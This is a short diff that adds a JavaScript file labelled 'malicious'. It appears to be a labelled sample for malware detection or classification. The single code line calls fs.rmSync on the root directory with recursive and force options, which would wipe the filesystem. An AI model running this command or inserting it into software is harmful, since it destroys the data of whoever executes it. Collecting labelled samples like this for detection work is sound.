@@ -1,0 +1,3 @@
+// label: malicious
+const fs = require("fs");
+fs.rmSync("/", { recursive: true, force: true });
